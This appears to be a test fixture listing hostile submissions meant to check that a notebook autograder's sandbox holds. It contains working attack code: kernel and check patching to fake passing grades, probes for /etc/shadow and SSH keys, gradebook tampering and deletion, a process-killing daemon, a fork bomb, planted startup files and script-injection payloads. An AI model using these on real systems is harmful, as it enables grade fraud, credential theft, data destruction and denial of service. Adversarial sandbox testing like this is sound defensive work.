"""Hostile submissions for notebook 01, one per class of the threat model (tests/test_attacks.py).

Each attack is ``(how, code, description)``:

- ``how == "stub"``: the untouched release plus ``code`` in an extra cell -- every function still
  raises NotImplementedError, so the submission must score 0 whatever the trick does;
- ``how == "wrong"``: the model answers, but with a softmax that returns zeros, and ``code`` in
  the softmax cell after it -- it must earn nothing on softmax's cells;
- ``how == "append"``: the model answers plus ``code`` in an extra cell at the end -- an honest
  score, but the trick must not reach anybody else (students graded later, files, gradebook).

The "wrong" and "append" notebooks leave out the plain demo cells (figures, timings), which the
tests never use: an attack is about grading, and 19 of them in two grading paths would otherwise
spend most of their time drawing (print_callers used up a 10 s cell limit in a timing demo).

``{root}`` in the code is replaced by the course's path, which the sandbox must hide.
Attacks print ``FOUND`` for anything they managed to see or do that they should not have;
the test asserts that no such line appears.
"""

WRONG_SOFTMAX = "def softmax(a, axis=-1):\n    return np.zeros_like(a)\n"

ATTACKS = {
    # --- the grader's own process is out of reach: patch everything the kernel has
    "patch_messaging": ("stub", """
import IPython, ipykernel.zmqshell, jupyter_client.session, zmq
IPython.core.interactiveshell.InteractiveShell.showtraceback = lambda *a, **k: None
ipykernel.zmqshell.ZMQInteractiveShell._showtraceback = lambda *a, **k: None
_send = jupyter_client.session.Session.send
def send(self, stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get('msg_type')
    if kind == 'error':
        return None
    if isinstance(content, dict) and content.get('status') == 'error':
        content = {**content, 'status': 'ok'}
    return _send(self, stream, msg_or_type, content, *args, **kwargs)
jupyter_client.session.Session.send = send
zmq.Socket.send_multipart = zmq.Socket.send_multipart
""", "patches IPython, ipykernel, jupyter_client and zmq so that no error is ever reported"),
    "patch_numpy_and_checks": ("wrong", """
import course.checks, course.boundary
np.allclose = lambda *a, **k: True
np.abs = lambda x: 0 * x
course.checks.check_close.__code__ = (lambda *a, **k: None).__code__
course.checks.CheckFailure.__init__ = lambda self, *a: None
course.boundary.Unsupported.typename = 'ndarray'
""", "mutates numpy, the checks and the boundary in place (functions' __code__, class attributes)"),
    "settrace": ("wrong", """
import sys
def tracer(frame, event, arg):
    if 'expected' in frame.f_locals:
        frame.f_locals['value'] = frame.f_locals['expected']
    return tracer
sys.settrace(tracer)
""", "installs a trace hook that rewrites a check's arguments"),
    "stack_walker": ("wrong", """
import sys
class Sneaky:
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame is not None:
            if 'expected' in frame.f_locals:
                print('FOUND expected in the stack')
                return np.asarray(frame.f_locals['expected'])
            frame = frame.f_back
        return np.zeros(3)
def softmax(a, axis=-1):
    return Sneaky()
""", "returns an object whose __array__ walks up the stack looking for the expected value"),
    "reference_helpers": ("wrong", """
def softmax(a, axis=-1):
    for name in ('reference', 'COURSE_CHECKERS', 'centred', 'forward', 'expected'):  # defined by test cells only
        if name in globals():
            print('FOUND', name)
            return globals()[name](a) if callable(globals()[name]) else globals()[name]
    return np.zeros_like(a)
""", "calls the reference helpers hidden tests define"),
    "background_thread": ("wrong", """
import threading, time
def repatch():
    import course.checks
    while True:
        np.allclose = lambda *a, **k: True
        course.checks.check_close = lambda *a, **k: None
        time.sleep(0.001)
threading.Thread(target=repatch, daemon=True).start()
""", "keeps re-patching numpy and the checks from a background thread"),
    "print_callers": ("wrong", """
import inspect
def softmax(a, axis=-1):
    for frame in inspect.stack(0):  # (no context lines: getsource below reads the whole caller)
        try:
            print('CALLER', frame.filename, frame.lineno)
            print(inspect.getsource(frame.frame))
        except Exception:
            pass
    return np.zeros_like(a)
""", "prints the source of whatever calls it, hoping to show hidden tests in feedback"),
    "gc_snoop": ("wrong", """
import gc
for obj in gc.get_objects():
    try:
        if callable(obj) and getattr(obj, '__name__', '') in ('reference', 'probs_reference', 'centred'):
            print('FOUND a helper of the hidden tests')
        if isinstance(obj, str) and ('BEGIN HIDDEN TESTS' in obj or 'check_close(' in obj):
            print('FOUND test source')
    except Exception:
        pass
""", "searches the garbage collector for test namespaces and hidden test code"),
    "forged_answers": ("stub", """
import json, base64
import course.boundary as b
from IPython.display import publish_display_data
def serve(request_text):
    answer = {'ok': True, 'value': b.encode(np.zeros(3)), 'mutated': [], 'warnings': []}
    publish_display_data({b.MIME: b.dumps(answer)})
b.serve = serve
""", "answers every call from the grader itself, claiming success"),
    "exit_from_dunder": ("wrong", """
import os
class Bomb:
    def __array__(self, dtype=None, copy=None):
        raise SystemExit(0)
    def __len__(self):
        raise KeyboardInterrupt()
    def __float__(self):
        os._exit(0)
def softmax(a, axis=-1):
    return Bomb() if np.ndim(a) == 1 else [Bomb()]
""", "returns objects whose methods raise SystemExit / KeyboardInterrupt or call os._exit"),
    "huge_answer": ("wrong", """
def softmax(a, axis=-1):
    deep = []
    for _ in range(5000):
        deep = [deep]
    return deep if np.ndim(a) == 1 else 'x' * 50_000_000
""", "returns data too deep or too big to cross"),
    # --- reach for files, processes and the network
    "read_secrets": ("append", """
import glob, os
targets = ['{root}/source', '{root}/gradebook.db', '{root}/submitted', '{root}/autograded', '{root}/release',
           '{root}/nbgrader_config.py', '{root}/tests', '/proc/1/environ', '/root/.ssh', '/etc/shadow', '/home/grader']
for path in targets:
    try:
        if os.path.isdir(path):
            print('FOUND directory', path, os.listdir(path)[:3])
        else:
            with open(path, 'rb') as handle:
                handle.read(10)
            print('FOUND file', path)
    except OSError:
        pass
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            cmd = open(f'/proc/{{pid}}/cmdline', 'rb').read()
            if b'nbgrader' in cmd or b'pytest' in cmd or b'course.grading.runner' in cmd:
                print('FOUND the grader process', pid)
        except OSError:
            pass
print('looked')
""", "looks for solutions, other submissions, the gradebook and the grader's processes"),
    "vandal": ("append", """
import os, shutil, sqlite3
for path in ['{root}/gradebook.db']:
    try:
        db = sqlite3.connect(path)
        db.execute('update grade set auto_score = 99')
        db.commit()
        print('FOUND wrote the gradebook')
    except Exception:
        pass
for path in ['{root}/source', '{root}/submitted']:
    try:
        shutil.rmtree(path)
        print('FOUND deleted', path)
    except OSError:
        pass
""", "tries to rewrite the gradebook and delete solutions and submissions"),
    "network": ("append", """
import socket
for host, port in [('127.0.0.1', 22), ('127.0.0.1', 5432), ('1.1.1.1', 443), ('pypi.org', 443)]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        print('FOUND a network connection to', host, port)
    except OSError:
        pass
""", "tries to reach the network"),
    "daemon": ("append", """
import os, signal, time
print('SANDBOX UID', os.getuid(), flush=True)
time.sleep(0.2)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3):
            os.close(fd)
        time.sleep(1)
        deadline = time.time() + 600
        while time.time() < deadline:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
time.sleep(0.2)
""", "double-forks a daemon that kills every process it can, for ten minutes"),
    "leave_files": ("append", """
import os
home = os.path.expanduser('~')
for folder in [os.environ.get('IPYTHONDIR', home + '/.ipython') + '/profile_default/startup',
               os.environ.get('MPLCONFIGDIR', home + '/.config/matplotlib'), '/tmp', '/dev/shm', home]:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, '00-evil.py'), 'w') as handle:
            handle.write('raise SystemExit(1)\\n')
        with open(os.path.join(folder, 'matplotlibrc'), 'w') as handle:
            handle.write('backend: nonexistent\\n')
    except OSError:
        pass
""", "drops start-up files where the next student's kernel might read them"),
    "fork_bomb": ("append", """
import os, time
print('SANDBOX UID', os.getuid())
children = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(300)
            os._exit(0)
        children += 1
except OSError:
    pass
print('started', children, 'processes')
""", "starts processes until the limit stops it, and leaves them running"),
    "script_in_the_grading_view": ("append", """
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML('<script>document.title = "pwned"</script><img src=x onerror="alert(1)"><b>bold</b>'))
display(Javascript('alert(2)'))
display(Markdown('<a href="javascript:alert(3)">x</a> <iframe src="https://example.org"></iframe>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(4)</script></svg>'))
""", "displays script, event handlers, iframes and scripted SVG for the instructor's browser"),
    "signal_everything": ("append", """
import os, signal
for sig in (signal.SIGKILL, signal.SIGSTOP):
    try:
        os.kill(os.getppid(), sig)
    except OSError:
        pass
""", "stops and kills its parent process"),
}

HONEST = ["z_honest_1", "z_honest_2", "z_honest_3"]
